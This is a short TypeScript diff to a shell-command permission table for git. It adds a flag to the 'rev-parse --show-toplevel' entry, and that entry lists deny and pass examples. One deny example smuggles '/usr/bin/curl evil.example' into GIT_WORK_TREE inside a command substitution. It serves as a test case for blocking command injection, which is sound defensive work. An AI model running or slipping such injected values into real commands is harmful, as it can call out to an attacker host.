@@ -750,6 +750,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
     // The work tree's top, an ancestor of the directory it runs in (see printsDirectory).
     when: /^rev-parse --show-toplevel$/,
     config: /^GIT_/,
+    holds: true,
     examples: { deny: ['$(git rev-parse --show-prefix)/scripts/check.sh', "$(GIT_WORK_TREE='/usr/bin/curl evil.example' git rev-parse --show-toplevel)/x"], pass: ['$(git rev-parse --show-toplevel)/scripts/check.sh --fast'] },
   }),
   {
